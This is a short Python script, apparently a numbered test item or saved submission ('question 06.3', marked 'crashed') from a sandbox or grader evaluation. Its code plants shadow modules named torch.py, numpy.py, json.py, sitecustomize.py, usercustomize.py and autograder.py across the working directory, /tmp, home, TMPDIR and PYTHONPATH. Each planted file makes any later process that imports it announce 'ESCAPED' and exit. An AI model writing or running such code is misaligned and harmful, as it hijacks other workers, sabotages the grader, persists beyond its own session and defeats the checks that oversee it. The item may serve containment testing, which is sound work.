"""Leaves modules where the next worker might import them, and ends its own."""

# 06.3: crashed

# question 06.3
import os
import sys

code = "import os\nos.write(2, b'ESCAPED: imported')\nos._exit(0)\n"
for folder in (".", "/tmp", os.path.expanduser("~"), os.environ.get("TMPDIR", "."), *os.environ.get("PYTHONPATH", "").split(":")):
    for name in ("torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "autograder.py", "json.py"):
        try:
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(code)
        except OSError:
            pass
os._exit(1)
